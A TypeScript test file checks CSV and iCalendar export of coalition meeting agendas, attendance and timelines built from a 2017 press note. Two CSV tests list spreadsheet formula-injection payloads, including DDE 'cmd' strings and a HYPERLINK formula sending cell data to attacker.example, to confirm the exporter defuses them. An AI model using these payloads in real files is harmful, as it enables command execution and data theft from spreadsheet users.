import { describe, expect, it } from 'vitest';
import { agendaCsv, attendanceCsv, timelineCsv, toCsv } from '../../src/http/formats/csv.js';
import { agendaIcs } from '../../src/http/formats/ics.js';
import type { AgendaMeeting } from '../../src/projections/agenda/agendaQueries.js';
import type { ParticipantAttendance } from '../../src/projections/attendance/attendanceQueries.js';
import type { TimelineEntry } from '../../src/projections/timeline/timelineQueries.js';

// Meetings announced in the State Department media note of 5 July 2017
// (shared/seed/press-release-2017-07-05.txt). The cancellation of the Communications working group is
// invented for the tests; the note gives no times, so the tests pick them.

const smallGroup: AgendaMeeting = {
  meetingId: '01BKS3Q5G0X7Y8Z9ABCDEFGHJK',
  title: 'Small Group meeting of the Global Coalition to Defeat ISIS',
  forum: 'small-group',
  status: 'scheduled',
  location: 'Washington, D.C.',
  host: 'Special Presidential Envoy Brett McGurk',
  startsAt: '2017-07-13T13:00:00.000Z',
  endsAt: '2017-07-13T21:00:00.000Z',
  agenda: [
    { itemId: 'campaign-priorities', title: 'Priorities to build on the progress in Mosul and Raqqa' },
    { itemId: 'lake-chad-basin', title: 'Special session: the ISIS threat in the Lake Chad Basin region; West Africa' },
  ],
  observers: [
    { observerId: 'african-union', name: 'African Union', kind: 'organization', session: 'lake-chad-basin' },
    { observerId: 'mnjtf', name: 'Multi National Joint Task Force (MNJTF)', kind: 'organization', session: null },
  ],
  cancellationReason: null,
  sequence: 0,
  updatedAt: '2017-07-05T16:00:00.000Z',
};

const communications: AgendaMeeting = {
  meetingId: '01BKS3Q5G0COMMUNICATIONSWG',
  title: 'Working Group on Communications',
  forum: 'working-group',
  status: 'cancelled',
  location: 'Washington, D.C.',
  host: null,
  startsAt: '2017-07-11T14:00:00.000Z',
  endsAt: null,
  agenda: [],
  observers: [],
  cancellationReason: 'Folded into the plenary of 12 July, "for now"',
  sequence: 1,
  updatedAt: '2017-07-10T16:00:00.000Z',
};

const member: ParticipantAttendance = {
  participantId: 'united-states',
  name: 'United States',
  role: 'member',
  invited: 1,
  attended: 1,
  absent: 0,
  rate: 1,
  meetings: [
    {
      meetingId: smallGroup.meetingId,
      title: smallGroup.title,
      forum: 'small-group',
      startsAt: smallGroup.startsAt,
      meetingStatus: 'scheduled',
      invited: false,
      status: 'present',
    },
  ],
};

const observerWithoutMeetings: ParticipantAttendance = {
  participantId: 'mnjtf',
  name: 'Multi National Joint Task Force (MNJTF)',
  role: 'observer',
  invited: 0,
  attended: 0,
  absent: 0,
  rate: null,
  meetings: [],
};

const mosul: TimelineEntry = {
  date: '2017-07-05',
  meetingId: smallGroup.meetingId,
  outcomeId: '01BKS3Q5G1A2B3C4D5E6F7G8H9',
  theatre: 'mosul',
  stage: 'verge-of-liberation',
  kind: 'assessment',
  summary: 'Through Coalition support, Mosul is on the verge of liberation by the Iraqi Security Forces.',
  regression: false,
  corrected: false,
};

/** RFC 4180 read back: quoted fields may hold commas, quotes and line breaks; records end in CRLF. */
const parseCsv = (csv: string): string[][] => {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  let i = 0;
  while (i < csv.length) {
    const c = csv[i];
    const next = csv[i + 1];
    i += 1;
    if (quoted && c === '"' && next === '"') {
      field += '"';
      i += 1;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (quoted) {
      field += c;
    } else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && next === '\n') {
      records.push([...record, field]);
      record = [];
      field = '';
      i += 1;
    } else {
      field += c;
    }
  }
  expect(record.length === 0 && field === '', 'the last record ends in CRLF').toBe(true);
  return records;
};

/** The cells a spreadsheet that ignores quotes would see, splitting a record on `separator`. */
const cellsSplitOn = (recordText: string, separator: string): string[] =>
  recordText.split(separator).map((cell) => cell.replaceAll('"', '').trimStart());

const FORMULA_START = /^[=+\-@\t\r\n]/;

describe('toCsv', () => {
  it('writes a header row and one CRLF-terminated record per row, in column order, every text quoted', () => {
    const csv = toCsv(['b', 'a'], [{ a: 1, b: 'x' }, { a: 2 }]);
    expect(csv).toBe('"b","a"\r\n"x",1\r\n,2\r\n');
  });

  it('quotes every text field, doubling the quotes, so a comma, a quote, a CR or a LF stays inside it', () => {
    const values = ['Washington, D.C.', 'the "Small Group"', 'line one\r\nline two', 'cr\ronly', 'plain', ''];
    const csv = toCsv(
      ['v'],
      values.map((v) => ({ v })),
    );
    expect(csv).toBe(
      '"v"\r\n"Washington, D.C."\r\n"the ""Small Group"""\r\n"line one\r\nline two"\r\n"cr\ronly"\r\n"plain"\r\n""\r\n',
    );
    expect(parseCsv(csv).slice(1)).toEqual(values.map((v) => [v]));
  });

  it('writes null and undefined as empty, numbers and booleans as text, arrays joined with "; "', () => {
    const csv = toCsv(
      ['n', 'u', 'num', 'yes', 'no', 'list'],
      [{ n: null, u: undefined, num: 0.5, yes: true, no: false, list: ['Mosul', 'Raqqa'] }],
    );
    expect(parseCsv(csv)[1]).toEqual(['', '', '0.5', 'true', 'false', 'Mosul; Raqqa']);
  });

  it('defuses text a spreadsheet would run as a formula, but leaves negative numbers alone', () => {
    const hostile = ['=HYPERLINK("http://x","y")', '+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd', '\ncmd'];
    const csv = toCsv(['v'], [...hostile.map((v) => ({ v })), { v: -0.25 }, { v: 'a=b' }]);
    expect(parseCsv(csv).slice(1)).toEqual([...hostile.map((v) => [`'${v}`]), ['-0.25'], ['a=b']]);
  });

  it('defuses a formula hidden in the first element of a list', () => {
    expect(parseCsv(toCsv(['v'], [{ v: ['=1+1', 'ok'] }]))[1]).toEqual(["'=1+1; ok"]);
  });

  it('quotes a summary with a formula after a semicolon and defuses the formula there too', () => {
    const csv = toCsv(['summary'], [{ summary: 'Progress noted;=40+2;' }]);
    expect(csv.split('\r\n')[1]).toBe(`"Progress noted;'=40+2;"`);
  });

  it('leaves no cell starting a formula, whichever separator a spreadsheet splits on, quotes or not', () => {
    const classic = [
      'Progress noted;=40+2;',
      "=cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '=HYPERLINK("http://attacker.example/?d="&A1,"Error: click")',
      '=1+2";=1+2',
      '=1+2\'" ;,=1+2',
      'ok, -2+3',
      'ok|+1',
      'ok\t@SUM(A1)',
      'later; =IMPORTXML(CONCAT("http://x/?", A1), "//a")',
    ];
    const csv = toCsv(['v', 'list'], [...classic.map((v) => ({ v })), { list: ['ok', '=1+1', '-2'] }]);
    for (const line of csv.split('\r\n').slice(1)) {
      for (const separator of [',', ';', '\t', '|']) {
        const dangerous = cellsSplitOn(line, separator).filter((cell) => FORMULA_START.test(cell));
        expect(dangerous, `${JSON.stringify(line)} split on ${JSON.stringify(separator)}`).toEqual([]);
      }
    }
    // Read as CSV (quotes respected), every value comes back whole, its formulas defused by a quote.
    expect(parseCsv(csv)[2]).toEqual(["'=cmd|' /C calc'!A0", '']);
  });
});

describe('projection CSV', () => {
  it('writes the agenda one meeting a row, agenda items and observers in order', () => {
    const rows = parseCsv(agendaCsv([smallGroup, communications]));
    expect(rows).toEqual([
      [
        'meetingId',
        'title',
        'forum',
        'status',
        'startsAt',
        'endsAt',
        'location',
        'host',
        'agendaItems',
        'observers',
        'cancellationReason',
      ],
      [
        smallGroup.meetingId,
        smallGroup.title,
        'small-group',
        'scheduled',
        '2017-07-13T13:00:00.000Z',
        '2017-07-13T21:00:00.000Z',
        'Washington, D.C.',
        'Special Presidential Envoy Brett McGurk',
        'Priorities to build on the progress in Mosul and Raqqa; Special session: the ISIS threat in the Lake Chad Basin region; West Africa',
        'African Union; Multi National Joint Task Force (MNJTF)',
        '',
      ],
      [
        communications.meetingId,
        'Working Group on Communications',
        'working-group',
        'cancelled',
        '2017-07-11T14:00:00.000Z',
        '',
        'Washington, D.C.',
        '',
        '',
        '',
        'Folded into the plenary of 12 July, "for now"',
      ],
    ]);
  });

  it('writes attendance one row per participant and meeting, and a row for a participant with none', () => {
    expect(parseCsv(attendanceCsv([member, observerWithoutMeetings]))).toEqual([
      [
        'participantId',
        'name',
        'role',
        'meetingId',
        'title',
        'forum',
        'startsAt',
        'meetingStatus',
        'invited',
        'status',
      ],
      [
        'united-states',
        'United States',
        'member',
        smallGroup.meetingId,
        smallGroup.title,
        'small-group',
        '2017-07-13T13:00:00.000Z',
        'scheduled',
        'false',
        'present',
      ],
      ['mnjtf', 'Multi National Joint Task Force (MNJTF)', 'observer', '', '', '', '', '', '', ''],
    ]);
  });

  it('writes the timeline one entry a row, with whether a correction amended it', () => {
    const amended = { ...mosul, stage: null, regression: true, corrected: true };
    expect(parseCsv(timelineCsv([mosul, amended]))).toEqual([
      ['date', 'theatre', 'stage', 'regression', 'corrected', 'kind', 'summary', 'meetingId', 'outcomeId'],
      [
        '2017-07-05',
        'mosul',
        'verge-of-liberation',
        'false',
        'false',
        'assessment',
        mosul.summary,
        mosul.meetingId,
        mosul.outcomeId,
      ],
      ['2017-07-05', 'mosul', '', 'true', 'true', 'assessment', mosul.summary, mosul.meetingId, mosul.outcomeId],
    ]);
  });
});

type Property = { name: string; value: string };
type Component = { name: string; properties: Property[]; components: Component[] };

const unfold = (ics: string): string => ics.replace(/\r\n[ \t]/g, '');

const unescapeText = (value: string): string =>
  value.replace(/\\([\\;,nN])/g, (_, c: string) => (c === 'n' || c === 'N' ? '\n' : c));

/** Just enough of RFC 5545 to read our own output back: unfolded content lines, nested components. */
const parseIcs = (ics: string): Component => {
  expect(ics.endsWith('\r\n')).toBe(true);
  const lines = unfold(ics).split('\r\n').slice(0, -1);
  const root: Component = { name: '', properties: [], components: [] };
  const open = [root];
  for (const line of lines) {
    const colon = line.indexOf(':');
    expect(colon, `a content line: ${line}`).toBeGreaterThan(0);
    const [name, value] = [line.slice(0, colon), line.slice(colon + 1)];
    const current = open.at(-1)!;
    if (name === 'BEGIN') {
      const child: Component = { name: value, properties: [], components: [] };
      current.components.push(child);
      open.push(child);
    } else if (name === 'END') {
      expect(current.name).toBe(value);
      open.pop();
    } else current.properties.push({ name, value });
  }
  expect(open).toEqual([root]);
  expect(root.components).toHaveLength(1);
  return root.components[0]!;
};

const prop = (component: Component, name: string): string | undefined =>
  component.properties.find((p) => p.name === name)?.value;

const options = { productId: '-//meeting-ledger//agenda//EN', stampFor: () => '2017-07-14T09:30:15.123Z' };

describe('agendaIcs', () => {
  const read = () => {
    const calendar = parseIcs(agendaIcs([smallGroup, communications], options));
    return { calendar, small: calendar.components[0]!, cancelled: calendar.components[1]! };
  };

  it('is a VCALENDAR 2.0 with a PRODID, a Gregorian scale and one VEVENT per meeting', () => {
    const { calendar } = read();
    expect(calendar.name).toBe('VCALENDAR');
    expect(prop(calendar, 'VERSION')).toBe('2.0');
    expect(prop(calendar, 'PRODID')).toBe('-//meeting-ledger//agenda//EN');
    expect(prop(calendar, 'CALSCALE')).toBe('GREGORIAN');
    expect(calendar.components.map((c) => c.name)).toEqual(['VEVENT', 'VEVENT']);
  });

  it('names each meeting by a UID and gives its times in UTC', () => {
    const { small } = read();
    expect(prop(small, 'UID')).toBe(`${smallGroup.meetingId}@meeting-ledger`);
    expect(prop(small, 'DTSTAMP')).toBe('20170714T093015Z');
    expect(prop(small, 'DTSTART')).toBe('20170713T130000Z');
    expect(prop(small, 'DTEND')).toBe('20170713T210000Z');
  });

  it('converts a start and end given with an offset to UTC', () => {
    const local = { ...smallGroup, startsAt: '2017-07-13T09:00:00-04:00', endsAt: '2017-07-13T17:30:00.000-04:00' };
    const event = parseIcs(agendaIcs([local], options)).components[0]!;
    expect(prop(event, 'DTSTART')).toBe('20170713T130000Z');
    expect(prop(event, 'DTEND')).toBe('20170713T213000Z');
  });

  it('gives the summary, the location, the forum as category and a confirmed status', () => {
    const { small } = read();
    expect(unescapeText(prop(small, 'SUMMARY')!)).toBe(smallGroup.title);
    expect(prop(small, 'LOCATION')).toBe('Washington\\, D.C.');
    expect(unescapeText(prop(small, 'LOCATION')!)).toBe('Washington, D.C.');
    expect(prop(small, 'CATEGORIES')).toBe('small-group');
    expect(prop(small, 'STATUS')).toBe('CONFIRMED');
  });

  it('describes forum, host and agenda items, escaping semicolons, commas and newlines', () => {
    const { small } = read();
    const raw = prop(small, 'DESCRIPTION')!;
    expect(raw).toContain('Lake Chad Basin region\\; West Africa');
    expect(unescapeText(raw)).toBe(
      [
        'Forum: small-group',
        'Host: Special Presidential Envoy Brett McGurk',
        'Agenda:',
        '1. Priorities to build on the progress in Mosul and Raqqa',
        '2. Special session: the ISIS threat in the Lake Chad Basin region; West Africa',
      ].join('\n'),
    );
  });

  it('marks a cancelled meeting CANCELLED', () => {
    const { cancelled } = read();
    expect(prop(cancelled, 'UID')).toBe(`${communications.meetingId}@meeting-ledger`);
    expect(prop(cancelled, 'STATUS')).toBe('CANCELLED');
  });

  it('gives a meeting without an end a one-hour DURATION instead of a zero-length event, and says so', () => {
    const { cancelled, small } = read();
    expect(prop(cancelled, 'DTSTART')).toBe('20170711T140000Z');
    expect(prop(cancelled, 'DTEND')).toBeUndefined();
    expect(prop(cancelled, 'DURATION')).toBe('PT1H');
    expect(unescapeText(prop(cancelled, 'DESCRIPTION')!)).toBe(
      'Forum: working-group\nEnd: not recorded (shown as one hour)',
    );
    expect(prop(small, 'DURATION'), 'a recorded end stays DTEND, never both').toBeUndefined();
  });

  it('escapes backslashes and every kind of line break, and drops control characters', () => {
    const title = 'C:\\agenda\r\nline two\rthree\nfour\u0007, end';
    const event = parseIcs(agendaIcs([{ ...smallGroup, title }], options)).components[0]!;
    expect(prop(event, 'SUMMARY')).toBe('C:\\\\agenda\\nline two\\nthree\\nfour\\, end');
    expect(unescapeText(prop(event, 'SUMMARY')!)).toBe('C:\\agenda\nline two\nthree\nfour, end');
  });

  it('ends every line in CRLF, with no bare CR or LF anywhere', () => {
    const ics = agendaIcs([{ ...smallGroup, title: 'one\ntwo\rthree' }, communications], options);
    expect(ics.startsWith('BEGIN:VCALENDAR\r\n')).toBe(true);
    expect(ics.endsWith('END:VCALENDAR\r\n')).toBe(true);
    expect(ics.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  });

  it('folds long lines at 75 octets without splitting a character, and unfolds to the original', () => {
    const title =
      'Réunion du Petit groupe de la Coalition mondiale contre Daech — Washington, D.C., 13 juillet 2017 — ' +
      'اجتماع المجموعة المصغرة للتحالف الدولي — 全球反伊斯兰国联盟小组会议 — 🇺🇸🤝🌍 — Ünterstützung für Mossul und Rakka';
    const ics = agendaIcs([{ ...smallGroup, title }], options);
    const physical = ics.split('\r\n').slice(0, -1);
    const summary = physical.findIndex((line) => line.startsWith('SUMMARY:'));
    const continuation = physical.slice(summary + 1).findIndex((line) => !line.startsWith(' '));
    const folded = physical.slice(summary, summary + 1 + continuation);
    expect(folded.length).toBeGreaterThan(3);
    for (const [index, line] of folded.entries()) {
      const octets = Buffer.byteLength(line, 'utf8');
      expect(octets).toBeLessThanOrEqual(75);
      // A character split across lines would leave a lone surrogate, which UTF-8 cannot carry.
      expect(Buffer.from(line, 'utf8').toString('utf8')).toBe(line);
      // Folding is greedy: only the last line may be short by more than a 4-octet character.
      if (index < folded.length - 1) expect(octets).toBeGreaterThan(71);
    }
    for (const line of physical) expect(Buffer.byteLength(line, 'utf8')).toBeLessThanOrEqual(75);
    expect(unescapeText(prop(parseIcs(ics).components[0]!, 'SUMMARY')!)).toBe(title);
  });
});
